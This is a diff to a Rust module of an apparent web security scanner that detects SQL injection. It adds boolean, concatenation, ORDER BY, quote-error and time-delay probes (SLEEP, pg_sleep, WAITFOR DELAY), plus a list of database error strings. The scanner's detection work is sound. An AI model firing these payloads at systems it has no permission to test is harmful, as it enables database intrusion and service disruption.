@@ -1,24 +1,25 @@
 //! Whether a value becomes part of an SQL query (CWE-89, OWASP A03:2021).
 //!
-//! For each value of each request that works:
-//! 1. Three equal requests tell what of the answer is stable; where that is not enough, nothing is said.
-//! 2. A condition is added in the forms a query may have it, once true and once false: with `AND` the true one must give the
-//!    answer of the original value and the false one another; with `OR`, behind a value that nothing has, the other way round.
-//! 3. Negative twin: the same with a broken keyword must not behave as the condition did.
-//! 4. Proof: eight comparisons of random numbers, true and false in random order; the answers must follow all of them. Chance
-//!    does so in one of 256 runs of an answer that changes at random, and only after 2 and 3.
+//! For each value of each request, the first that shows it ends the search:
+//! 1. Reads: a condition is added in the forms a query may have it, true and false ([`condition`]: control, twin and eight rounds).
+//! 2. All: the value in two parts that only a database joins (`la'||'mp`), or as a sum that only it adds; the answer must be the
+//!    original one, and must not be with a broken sign or another sum. What is written is the original value: writes are safe.
+//! 3. Names of columns: a `CASE` that gives the order of the original value or none, exact to the byte.
+//! 4. All: one quotation mark gives an error of a database, two do not, one does again. That is firm.
+//! 5. All: a wait by the database's own function, as in `command-injection`. That is firm. No heavy queries.
 //!
-//! A value whose answers follow nothing passed. Writes are not tried: a condition that is true for every row could change all.
+//! A condition that is true for every row is never sent to a write.
 
 use gabion_model::outbound::BoxFuture;
 
-use super::{Attack, Phase, usable};
-use crate::call::{Call, Put};
+use super::condition::{Grammar, condition};
+use super::waiting::{Waits, waits};
+use super::{Attack, Phase, shuffled};
+use crate::aim::{Aim, Sent, aims};
 use crate::compare::Profile;
-use crate::field::{Field, Known};
-use crate::operation::{Place, Point};
-use crate::verdict::{Outcome, Proof, Verdict};
-use crate::wire::{Answer, Request, WireError};
+use crate::field::Field;
+use crate::verdict::{Proof, Verdict};
+use crate::wire::{Answer, WireError};
 
 pub(super) struct SqlInjection;
 
@@ -30,7 +31,7 @@ impl Attack for SqlInjection {
     }
 
     fn phase(&self) -> Phase {
-        Phase::Read
+        Phase::Write
     }
 
     fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
@@ -39,16 +40,11 @@ impl Attack for SqlInjection {
 }
 
 async fn run(field: &Field) -> Result<(), WireError> {
+    let aims = aims(field);
     let mut tested = 0_usize;
-    for known in field.examples() {
-        let Some(operation) = field.operation(known.operation) else { continue };
-        if !operation.is_safe() {
-            continue;
-        }
-        for point in known.call.points() {
-            tested = tested.saturating_add(1);
-            attack(field, known, &operation.id(), &point).await?;
-        }
+    for aim in aims.iter().filter(|aim| aim.is_value()) {
+        tested = tested.saturating_add(1);
+        attack(aim).await?;
     }
     if tested == 0 {
         field.not_tested(ID, "no operation takes a value");
@@ -56,161 +52,291 @@ async fn run(field: &Field) -> Result<(), WireError> {
     Ok(())
 }
 
-/// How a value may stand in a query: what closes it, and what the rest of the query needs to stay whole.
-#[derive(Clone, Copy)]
-struct Form {
-    before: &'static str,
-    after: &'static str,
-}
+const SQL: Grammar = Grammar {
+    who: "the database",
+    and: "AND",
+    or: "OR",
+    broken_and: "XAND",
+    broken_or: "XOR_",
+    compare: |one, two, truth| {
+        format!("{one}*{two}={}", one.saturating_mul(two).saturating_add(u32::from(!truth)))
+    },
+    forms: &[
+        ("'", "'1'='1"),
+        ("", "1=1"),
+        ("%'", "'%'='"),
+        ("\"", "\"1\"=\"1"),
+        ("')", "('1'='1"),
+        ("%')", "('%'='"),
+        (")", "(1=1"),
+        ("'))", "(('1'='1"),
+    ],
+};
 
-const FORMS: &[Form] = &[
-    Form { before: "'", after: "'1'='1" },
-    Form { before: "", after: "1=1" },
-    Form { before: "%'", after: "'%'='" },
-    Form { before: "\"", after: "\"1\"=\"1" },
-    Form { before: "')", after: "('1'='1" },
-    Form { before: "%')", after: "('%'='" },
-    Form { before: ")", after: "(1=1" },
-    Form { before: "'))", after: "(('1'='1" },
-];
-
-/// How a condition is added.
-#[derive(Clone, Copy, PartialEq, Eq)]
-enum Word {
-    /// What is true changes nothing.
-    And,
-    /// What is false changes nothing, behind a value that nothing has.
-    Or,
-}
-
-impl Word {
-    const fn text(self) -> &'static str {
-        match self {
-            Self::And => "AND",
-            Self::Or => "OR",
+async fn attack(aim: &Aim<'_>) -> Result<(), WireError> {
+    if aim.is_typed().await? {
+        aim.field.say(aim.outcome(ID, Verdict::Passed, "only numbers are taken"));
+        return Ok(());
+    }
+    let base = aim.profile().await?;
+    if let Some(base) = &base {
+        if aim.is_safe() && condition(aim, ID, base, &SQL).await? {
+            return Ok(());
+        }
+        if joined(aim, base).await? || (aim.is_safe() && ordered(aim).await?) {
+            return Ok(());
         }
     }
-}
-
-/// What a value is after it, when nothing of it is in a query.
-struct Sent {
-    request: Request,
-    answer: Answer,
-    text: String,
-}
-
-struct Aim<'a> {
-    field: &'a Field,
-    who: usize,
-    call: &'a Call,
-    point: &'a Point,
-    original: String,
-}
-
-impl Aim<'_> {
-    async fn send(&self, text: String) -> Result<Option<Sent>, WireError> {
-        let call = self.call.with(self.point, &Put::Text(&text));
-        let sent = usable(self.field.exchange(self.who, &call).await)?;
-        Ok(sent.map(|(request, answer)| Sent { request, answer, text }))
-    }
-
-    async fn condition(&self, form: Form, word: Word, condition: &str) -> Result<Option<Sent>, WireError> {
-        self.send(self.text(form, word.text(), condition)).await
-    }
-
-    /// `lamp' AND 7=7 AND '1'='1`. The rest is bound to the condition, so that it decides alone.
-    fn text(&self, form: Form, word: &str, condition: &str) -> String {
-        format!("{}{} {word} ({condition}) AND {}", self.original, form.before, form.after)
-    }
-
-    fn is_base(&self, profile: &Profile, sent: &Sent) -> bool {
-        profile.fits(&sent.answer, &sent.text, &self.original)
-    }
-}
-
-async fn attack(field: &Field, known: &Known, operation: &str, point: &Point) -> Result<(), WireError> {
-    let say = |verdict, says: &str| field.say(Outcome::new(ID, operation, verdict, says).at(point));
-    let Some(original) = known.call.value(point) else { return Ok(()) };
-    if matches!(point.place, Place::File | Place::Body) {
+    if errors(aim).await? || sleeps(aim).await? {
         return Ok(());
     }
-    let aim = Aim { field, who: known.who, call: &known.call, point, original };
-    let mut base = Vec::new();
-    for _ in 0..3 {
-        let Some(sent) = aim.send(aim.original.clone()).await? else {
-            say(Verdict::Inconclusive, "the original value got no answer any more");
-            return Ok(());
-        };
-        base.push(sent);
-    }
-    let answers: Vec<&Answer> = base.iter().map(|sent| &sent.answer).collect();
-    let Some(profile) = Profile::of(&answers).filter(Profile::is_calm) else {
-        say(Verdict::Inconclusive, "the original value gets another answer each time");
-        return Ok(());
+    let (verdict, says) = match base {
+        Some(_) => (Verdict::Passed, "nothing that was put into it was read as SQL"),
+        None => (Verdict::Inconclusive, "the original value gets another answer each time"),
     };
-    // A value that finds nothing tells nothing with `AND`.
-    let ways: Vec<(Form, Word)> =
-        [Word::And, Word::Or].iter().flat_map(|word| FORMS.iter().map(|form| (*form, *word))).collect();
-    for (form, word) in ways {
-        // What must be as the original value, and what must not.
-        let (same, other) = if word == Word::And { ("7=7", "7=8") } else { ("7=8", "7=7") };
-        let Some(changed) = aim.condition(form, word, other).await? else { continue };
-        if aim.is_base(&profile, &changed) {
-            continue;
-        }
-        let Some(unchanged) = aim.condition(form, word, same).await? else { continue };
-        if !aim.is_base(&profile, &unchanged) {
-            continue;
-        }
-        // The twin: no database knows the keyword. It must be neither as the original nor as what the condition changed.
-        let Some(twin) = aim.send(aim.text(form, &format!("X{}", word.text()), same)).await? else {
-            continue;
-        };
-        let again = Profile::of(&[&changed.answer]);
-        let as_changed = again.is_some_and(|changed| changed.fits(&twin.answer, &twin.text, &aim.original));
-        if aim.is_base(&profile, &twin) || (as_changed && word == Word::Or) {
-            continue;
-        }
-        if !follows(&aim, &profile, form, word).await? {
-            say(Verdict::Inconclusive, "one condition made a difference and others did not");
-            return Ok(());
-        }
-        let says =
-            format!("the database computed what was put into {point}: {ROUNDS} of {ROUNDS} comparisons");
-        let evidence = format!(
-            "`{}` gives the answer of `{}`, and `{}` another",
-            unchanged.text, aim.original, changed.text
-        );
-        let proof = Proof::new(field.evidence(aim.who, &changed.request, &changed.answer), evidence)
-            .twin(field.evidence(aim.who, &twin.request, &twin.answer))
-            .shown(field.evidence(aim.who, &unchanged.request, &unchanged.answer));
-        field.say(Outcome::new(ID, operation, Verdict::Proven, says).at(point).proof(proof));
-        return Ok(());
-    }
-    say(Verdict::Passed, "no condition that was put into it made a difference");
+    aim.field.say(aim.outcome(ID, verdict, says));
     Ok(())
 }
 
-const ROUNDS: usize = 8;
+/// How databases join texts: what stands between, and the same broken.
+const JOINS: &[(&str, &str)] = &[("'||'", "'|!|'"), ("' '", "' ! '"), ("'+'", "'+!+'")];
 
-/// Whether the answers follow comparisons of random numbers.
-async fn follows(aim: &Aim<'_>, profile: &Profile, form: Form, word: Word) -> Result<bool, WireError> {
-    // At least two of each.
-    let mut truths: Vec<bool> = (0..ROUNDS).map(|round| round % 2 == 0).collect();
-    for at in 0..truths.len() {
-        let other = usize::try_from(aim.field.number(8)).unwrap_or(0).min(truths.len().saturating_sub(1));
-        truths.swap(at, other);
+/// The value in two parts, or as a sum.
+async fn joined(aim: &Aim<'_>, base: &Profile) -> Result<bool, WireError> {
+    if !aim.works {
+        return Ok(false);
     }
-    for truth in truths {
-        let (one, two) =
-            (aim.field.number(900).saturating_add(100), aim.field.number(900).saturating_add(100));
-        let product = one.saturating_mul(two).saturating_add(u32::from(!truth));
-        let Some(sent) = aim.condition(form, word, &format!("{one}*{two}={product}")).await? else {
-            return Ok(false);
+    if let Ok(number) = aim.original.parse::<u32>() {
+        let sum = |count: u32, function: &str, off: u32| {
+            let more = number.saturating_add(count).saturating_add(off);
+            format!("{more}-{function}('{}')", "x".repeat(usize::try_from(count).unwrap_or(1)))
         };
-        if aim.is_base(profile, &sent) != (truth == (word == Word::And)) {
+        let count = || aim.field.number(5).saturating_add(3);
+        for (function, broken) in [("LENGTH", "LENGHT"), ("LEN", "LEEN")] {
+            let texts = |truth: bool| sum(count(), function, u32::from(!truth));
+            if follows(aim, base, &texts, &sum(count(), broken, 0)).await? {
+                return Ok(true);
+            }
+        }
+        return Ok(false);
+    }
+    let letters: Vec<char> = aim.original.chars().collect();
+    let cuts = u32::try_from(letters.len().saturating_sub(1)).unwrap_or(0);
+    if cuts == 0 || !letters.iter().all(|letter| letter.is_alphanumeric() || " -_.@".contains(*letter)) {
+        return Ok(false);
+    }
+    for (join, broken) in JOINS {
+        let cut = |between: &str, false_letter: &str| {
+            let at = usize::try_from(aim.field.number(cuts)).unwrap_or(0).saturating_add(1);
+            let part = |letters: &[char]| letters.iter().collect::<String>();
+            let (first, last) = letters.split_at_checked(at).unwrap_or((&letters, &[]));
+            format!("{}{between}{false_letter}{}", part(first), part(last))
+        };
+        let texts = |truth: bool| cut(join, if truth { "" } else { "q" });
+        if follows(aim, base, &texts, &cut(broken, "")).await? {
+            return Ok(true);
+        }
+    }
+    Ok(false)
+}
+
+const ROUNDS: usize = 6;
+
+/// Whether true texts give the original answer, false ones and the twin another; in all rounds.
+async fn follows(
+    aim: &Aim<'_>,
+    base: &Profile,
+    text: &(dyn Fn(bool) -> String + Sync),
+    broken: &str,
+) -> Result<bool, WireError> {
+    let Some(first) = aim.text(&text(true)).await? else { return Ok(false) };
+    if !aim.fits(base, &first) {
+        return Ok(false);
+    }
+    let Some(twin) = aim.text(broken).await? else { return Ok(false) };
+    if aim.fits(base, &twin) {
+        return Ok(false);
+    }
+    let mut lie = None;
+    for truth in shuffled(aim.field, ROUNDS) {
+        let Some(sent) = aim.text(&text(truth)).await? else { return Ok(false) };
+        if aim.fits(base, &sent) != truth {
+            return Ok(false);
+        }
+        if !truth {
+            lie = Some(sent);
+        }
+    }
+    let says = format!("the database computed the value of {} again: {ROUNDS} of {ROUNDS} times", aim.point);
+    let evidence =
+        format!("`{}` gives the answer of `{}`, and `{broken}` does not", first.text, aim.original);
+    let mut proof = Proof::new(aim.evidence(&first), evidence).twin(aim.evidence(&twin));
+    if let Some(lie) = lie {
+        proof = proof.shown(aim.evidence(&lie));
+    }
+    aim.field.say(aim.outcome(ID, Verdict::Proven, says).proof(proof));
+    Ok(true)
+}
+
+/// A name of a column, in an order: the answer is compared as it stands, for an order changes no word.
+async fn ordered(aim: &Aim<'_>) -> Result<bool, WireError> {
+    let name = &aim.original;
+    let is_name = name.chars().all(|letter| letter.is_alphanumeric() || letter == '_' || letter == '.')
+        && name.chars().next().is_some_and(char::is_alphabetic);
+    if !is_name || !aim.works {
+        return Ok(false);
+    }
+    let Some(base) = aim.text(name).await? else { return Ok(false) };
+    for case in CASES {
+        if follows_order(aim, &base, *case).await? {
+            return Ok(true);
+        }
+    }
+    Ok(false)
+}
+
+/// A name that stands for an order, or none; or a number's own order, or the other way round.
+const CASES: &[fn(&str, &str, &str) -> String] = &[
+    |then, name, condition| format!("CASE WHEN ({condition}) {then} {name} END"),
+    |then, name, condition| format!("(CASE WHEN ({condition}) {then} 1 ELSE -1 END)*{name}"),
+];
+
+async fn follows_order(
+    aim: &Aim<'_>,
+    base: &Sent,
+    case: fn(&str, &str, &str) -> String,
+) -> Result<bool, WireError> {
+    let text = |then: &str, truth: bool| {
+        let number = || aim.field.number(900).saturating_add(100);
+        case(then, &aim.original, &(SQL.compare)(number(), number(), truth))
+    };
+    let same = |sent: &Sent| sent.answer.status == base.answer.status && sent.answer.body == base.answer.body;
+    let Some(first) = aim.text(&text("THEN", true)).await? else { return Ok(false) };
+    if !same(&first) {
+        return Ok(false);
+    }
+    let Some(twin) = aim.text(&text("XTHEN", true)).await? else { return Ok(false) };
+    if same(&twin) {
+        return Ok(false);
+    }
+    for truth in shuffled(aim.field, ROUNDS) {
+        let Some(sent) = aim.text(&text("THEN", truth)).await? else { return Ok(false) };
+        if same(&sent) != truth {
             return Ok(false);
         }
     }
+    let says = format!("the order follows a condition in {}: {ROUNDS} of {ROUNDS} times", aim.point);
+    let evidence = format!("`{}` gives the order of `{}`", first.text, aim.original);
+    let proof = Proof::new(aim.evidence(&first), evidence).twin(aim.evidence(&twin));
+    aim.field.say(aim.outcome(ID, Verdict::Proven, says).proof(proof));
     Ok(true)
+}
+
+/// One quotation mark gives an error of a database, two do not, one does again.
+async fn errors(aim: &Aim<'_>) -> Result<bool, WireError> {
+    for mark in ["'", "\""] {
+        let text = |count: usize| format!("{}{}", aim.original, mark.repeat(count));
+        let Some(one) = aim.text(&text(1)).await? else { continue };
+        let Some(words) = database_error(&one.answer) else { continue };
+        let Some(two) = aim.text(&text(2)).await? else { continue };
+        let Some(three) = aim.text(&text(3)).await? else { continue };
+        let Some(plain) = aim.text(&aim.original).await? else { continue };
+        let quiet = database_error(&two.answer).is_none() && database_error(&plain.answer).is_none();
+        if !quiet || database_error(&three.answer).is_none() {
+            continue;
+        }
+        let says = format!("a quotation mark in {} makes the database fail on the query", aim.point);
+        let evidence = format!("the answer to `{}` has `{words}`, that to `{}` has not", one.text, two.text);
+        let proof =
+            Proof::new(aim.evidence(&one), evidence).twin(aim.evidence(&two)).shown(aim.evidence(&three));
+        aim.field.say(aim.outcome(ID, Verdict::Firm, says).proof(proof));
+        return Ok(true);
+    }
+    Ok(false)
+}
+
+/// What databases say of a query they cannot read.
+pub(super) fn database_error(answer: &Answer) -> Option<&'static str> {
+    DATABASE_WORDS.iter().find(|words| answer.has(words)).copied()
+}
+
+const DATABASE_WORDS: &[&str] = &[
+    "You have an error in your SQL syntax",
+    "check the manual that corresponds to your",
+    "ER_PARSE_ERROR",
+    "unterminated quoted string",
+    "unterminated quoted identifier",
+    "syntax error at or near",
+    "Unclosed quotation mark",
+    "Incorrect syntax near",
+    "quoted string not properly terminated",
+    "ORA-01756",
+    "ORA-00933",
+    "unrecognized token:",
+    "SQLITE_ERROR",
+    "SQLSTATE[42",
+    "SQLSyntaxErrorException",
+    "near \"'\": syntax error",
+    "incomplete input",
+];
+
+const WAITS: &[(bool, Waits)] = &[
+    (
+        true,
+        Waits {
+            attack: |value, seconds| format!("{value}'+(SELECT SLEEP({seconds}))+'"),
+            twin: |value, seconds| format!("{value}'+(SELECT SLEPP({seconds}))+'"),
+            who: "the database",
+        },
+    ),
+    (
+        true,
+        Waits {
+            attack: |value, seconds| format!("{value}'||(SELECT '' FROM pg_sleep({seconds}))||'"),
+            twin: |value, seconds| format!("{value}'||(SELECT '' FROM pg_slepp({seconds}))||'"),
+            who: "the database",
+        },
+    ),
+    (
+        true,
+        Waits {
+            attack: |value, seconds| format!("{value}'; WAITFOR DELAY '0:0:{seconds}'--"),
+            twin: |value, seconds| format!("{value}'; WAITFER DELAY '0:0:{seconds}'--"),
+            who: "the database",
+        },
+    ),
+    (
+        false,
+        Waits {
+            attack: |value, seconds| format!("{value}+(SELECT SLEEP({seconds}))"),
+            twin: |value, seconds| format!("{value}+(SELECT SLEPP({seconds}))"),
+            who: "the database",
+        },
+    ),
+    (
+        false,
+        Waits {
+            attack: |value, seconds| format!("{value}+(SELECT 0 FROM pg_sleep({seconds}))"),
+            twin: |value, seconds| format!("{value}+(SELECT 0 FROM pg_slepp({seconds}))"),
+            who: "the database",
+        },
+    ),
+    (
+        false,
+        Waits {
+            attack: |value, seconds| format!("{value}; WAITFOR DELAY '0:0:{seconds}'--"),
+            twin: |value, seconds| format!("{value}; WAITFER DELAY '0:0:{seconds}'--"),
+            who: "the database",
+        },
+    ),
+];
+
+async fn sleeps(aim: &Aim<'_>) -> Result<bool, WireError> {
+    let is_text = aim.original.parse::<f64>().is_err();
+    for (_, form) in WAITS.iter().filter(|(text, _)| *text == is_text) {
+        if waits(aim, ID, form).await? {
+            return Ok(true);
+        }
+    }
+    Ok(false)
 }
